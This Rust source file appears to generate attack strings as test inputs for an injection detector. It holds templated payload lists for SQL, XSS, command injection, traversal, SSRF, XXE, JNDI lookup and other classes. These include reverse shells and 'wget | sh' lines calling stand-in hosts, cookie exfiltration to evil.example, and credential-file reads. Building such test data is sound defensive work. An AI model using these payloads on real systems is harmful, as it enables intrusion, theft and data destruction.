//! Attacks by grammar: templates of each class, their slots filled, then hidden.

use inspect::Class;

use crate::random::Random;

/// Fills the slots of a template: `{n}` a number, `{w}` a word, `{t}` a table, `{c}` a command, `{h}` a
/// host, `{p}` the prefix of a value.
pub(crate) fn fill(template: &str, random: &mut Random) -> String {
    let mut text = template.to_owned();
    let number = (random.below(9_000) + 1).to_string();
    text = text.replace("{n}", &number);
    let words = ["admin", "laptop", "x", "test", "anna", "widget", "a1b2", "report"];
    text = text.replace("{w}", random.pick(&words));
    let tables = ["users", "accounts", "orders", "api_keys", "members"];
    text = text.replace("{t}", random.pick(&tables));
    let commands = [
        "id",
        "whoami",
        "cat /etc/passwd",
        "uname -a",
        "ls -la /",
        "curl http://evil.example/x",
        "ping -c 3 10.0.0.1",
    ];
    text = text.replace("{c}", random.pick(&commands));
    let hosts = ["evil.example", "203.0.113.9:1389", "a.b.oast.example"];
    text.replace("{h}", random.pick(&hosts))
}

/// The templates of a class.
pub(crate) fn templates(class: Class) -> &'static [&'static str] {
    match class {
        Class::Command => COMMAND,
        Class::Ldap => LDAP,
        Class::Lookup => LOOKUP,
        Class::NoSql => NOSQL,
        Class::Splitting => SPLITTING,
        Class::Sql => SQL,
        Class::Ssrf => SSRF,
        Class::Template => TEMPLATE,
        Class::Traversal => TRAVERSAL,
        Class::XPath => XPATH,
        Class::Xss => XSS,
        Class::Xxe => XXE,
    }
}

const SQL: &[&str] = &[
    "{w}' OR '1'='1",
    "{n} OR 1=1",
    "' OR {n}={n}-- -",
    "{w}'--",
    "{w}' #",
    "{n} UNION SELECT username, password FROM {t}",
    "-{n}' UNION ALL SELECT NULL,NULL,version()-- ",
    "{n}; DROP TABLE {t}--",
    "{w}'; UPDATE {t} SET role='admin' WHERE id={n}--",
    "{n} AND SLEEP(5)",
    "{w}' AND (SELECT {n} FROM (SELECT(SLEEP(5)))a)-- x",
    "{n}' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))-- ",
    "1; WAITFOR DELAY '0:0:5'--",
    "'||(SELECT password FROM {t} WHERE id={n})||'",
    "{n}) OR ({n}={n}",
    "{w}\" OR \"a\"=\"a",
    "{n} ORDER BY 10-- ",
    "(SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)",
    "{w}' AND ASCII(SUBSTRING((SELECT password FROM {t} LIMIT 1),1,1))>64-- ",
    "{w}' HAVING 1=1--",
    "{n} AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
    "{w}';EXEC xp_cmdshell('whoami')--",
    "1' AND pg_sleep(5)--",
    "{w}' RLIKE SLEEP(5) AND 'a'='a",
    "' OR EXISTS(SELECT * FROM {t})-- ",
    "{w}') OR ('x'='x",
    "1 AND (SELECT SUBSTR(table_name,1,1) FROM information_schema.tables)='a'",
    "{n}/**/UNION/**/SELECT/**/1,2,3",
    "{n}' GROUP BY 1,2,3 HAVING 1=1-- ",
    "'+(SELECT 1)+'",
];

const NOSQL: &[&str] = &[
    "{\"$ne\": null}",
    "{\"$gt\": \"\"}",
    "{\"{w}\": {\"$regex\": \".*\"}}",
    "{\"$where\": \"this.{w} == 'a'\"}",
    "' || '1'=='1",
    "{w}'; return true; var x='",
    "true, $where: '1 == 1'",
    "', $or: [ {}, { 'a':'a",
    "{\"$or\": [{}, {\"{w}\": \"a\"}]}",
    "'; while(true){}; var a='",
    "{\"username\": {\"$in\": [\"{w}\", \"root\"]}}",
    "' && this.password.match(/.*/)//",
    "{n};sleep({n})",
    "db.{t}.drop()",
    "0;var date=new Date(); do{cur = new Date();}while(cur-date<10000)",
    "{\"$expr\": {\"$eq\": [1, 1]}}",
];

const XSS: &[&str] = &[
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "\"><script>alert(document.cookie)</script>",
    "javascript:alert({n})",
    "\" onmouseover=\"alert({n})",
    "<iframe src=javascript:alert({n})>",
    "<body onload=alert('{w}')>",
    "';alert({n});//",
    "<a href=\"javascript:alert({n})\">{w}</a>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<script src=//{h}/x.js></script>",
    "<img src=\"x\" onerror=\"fetch('//{h}/?c='+document.cookie)\">",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert({n}) src>\">",
    "'-alert({n})-'",
    "<video><source onerror=\"alert({n})\">",
    "<marquee onstart=alert({n})>",
    "<embed src=\"data:text/html,<script>alert({n})</script>\">",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
    "<ScRiPt >prompt({n})</sCrIpT>",
    "<form action=javascript:alert({n})><button>",
    "{w}<img src=1 href=1 onerror=\"javascript:alert({n})\"></img>",
];

const COMMAND: &[&str] = &[
    "; {c}",
    "| {c}",
    "127.0.0.1 && {c}",
    "`{c}`",
    "$({c})",
    "{w}; {c} #",
    "{w} || {c}",
    "{w}\n{c}",
    "& {c} &",
    "; cat${IFS}/etc/passwd",
    "; c'a't /etc/passwd",
    "; /bin/ca? /etc/passw?",
    "() { :;}; /bin/bash -c '{c}'",
    "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "| nc -e /bin/sh 203.0.113.9 4444",
    "{w};wget http://{h}/x.sh -O- | sh",
    "; python3 -c 'import os; os.system(\"id\")'",
    "{w}|powershell -enc SQBFAFgA",
    "& type C:\\Windows\\win.ini",
    "a;{c};b",
    "'; {c}; '",
    "\"&&{c}&&\"",
    "; sleep 10",
    "<!--#exec cmd=\"{c}\" -->",
];

const TRAVERSAL: &[&str] = &[
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "/etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%252f..%252f..%252fetc/passwd",
    "C:\\boot.ini",
    "php://filter/convert.base64-encode/resource=index.php",
    "../../../../proc/self/environ",
    "{w}/../../../../etc/hosts",
    "..;/..;/manager/html",
    "/var/www/../../etc/passwd",
    "../../.ssh/id_rsa",
    "../../../{w}.conf",
    "../../../../../../{w}%00.png",
    "/WEB-INF/web.xml",
    "..\\..\\..\\..\\boot.ini",
    "images/../../../../.git/config",
];

const LDAP: &[&str] = &[
    "*)(uid=*))(|(uid=*",
    "{w})(&)",
    "*)(objectClass=*",
    "{w})(|(password=*))",
    "*()|&'",
    "{w}*)((|userPassword=*)",
    "(&(uid={w})(!(&(1=0)(userPassword=q))))",
    "*(|(objectclass=*))",
    "userPassword:2.5.13.18:=123",
    "*))%00",
    "{w})(!(&(|",
    "x)(|(cn=*",
    "*)(mail=*)",
    "{w})(|(objectclass=*)",
];

const XPATH: &[&str] = &[
    "' or '1'='1",
    "{w}' or count(//user)={n} or 'a'='b",
    "'] | //user/*[contains(*,'",
    "' or name()='username' or 'x'='y",
    "x' or position()=1 or 'x'='y",
    "' and string-length(name(/*[1]))={n} and '1'='1",
    "'] | //{t} | a['",
    "' or substring(//user[1]/password,1,1)='a' or ''='",
    "{w}'] /parent::node()/child::node() | a['",
    "//{t}/*",
    "1 or starts-with(//user/name,'a')",
    "' or last()=1 or '",
];

const TEMPLATE: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config.items()}}",
    "{{''.__class__.__mro__[2].__subclasses__()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "{{constructor.constructor('alert(1)')()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{ {n}*{n} }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "${{n}*{n}}",
    "{{7*'7'}}",
    "<%= system('id') %>",
    "@({n}+{n})",
];

const SSRF: &[&str] = &[
    "http://127.0.0.1/{w}",
    "http://localhost:{n}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://2130706433/",
    "http://0x7f000001/{w}",
    "http://0177.0.0.1/",
    "http://[::1]:80/",
    "http://[::ffff:127.0.0.1]/",
    "http://10.0.0.7:{n}/",
    "gopher://127.0.0.1:6379/_INFO",
    "file:///etc/passwd",
    "dict://127.0.0.1:11211/stat",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://evil.example@127.0.0.1/",
    "http://127.1/",
    "http://192.168.1.1/{w}",
    "http://127.0.0.1.nip.io/",
    "jar:http://127.0.0.1!/x",
    "http://0/",
    "http://[fd00:ec2::254]/latest/",
];

const XXE: &[&str] = &[
    "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://{h}/x.dtd\"><r/>",
    "<!DOCTYPE r [<!ENTITY % y SYSTEM \"http://{h}/y\"> %y;]><r/>",
    "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>",
    "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>",
    "<!DOCTYPE r PUBLIC \"-//A//B//EN\" \"http://{h}/x.dtd\"><r>{w}</r>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE x [<!ENTITY z SYSTEM \"expect://id\">]><text>&z;</text></svg>",
    "<?xml version=\"1.0\"?>\n<!DOCTYPE {w} [\n<!ELEMENT {w} ANY>\n<!ENTITY xxe SYSTEM \"php://filter/read=convert.base64-encode/resource=a\">]>\n<r>&xxe;</r>",
];

const LOOKUP: &[&str] = &[
    "${jndi:ldap://{h}/a}",
    "${${lower:j}ndi:ldap://{h}/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://{h}/x}",
    "${jndi:dns://{h}}",
    "${${env:X:-j}ndi${env:X:-:}ldap://{h}/a}",
    "${${upper:j}${upper:n}di:ldap://{h}}",
    "{w}${jndi:ldaps://{h}/b}",
    "${jndi:${lower:l}${lower:d}ap://{h}/a}",
];

const SPLITTING: &[&str] = &[
    "{w}\r\nSet-Cookie: session={n}",
    "{w}\r\nLocation: http://{h}/",
    "{w}\nX-Injected: {w}",
    "{w}\r\n\r\n<html>",
    "{w}\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "\r\nRCPT TO: <a@{h}>\r\n",
    "{w}%0d%0aSet-Cookie: a={n}",
    "{w}\u{560D}\u{560A}Set-Cookie: a={n}",
];
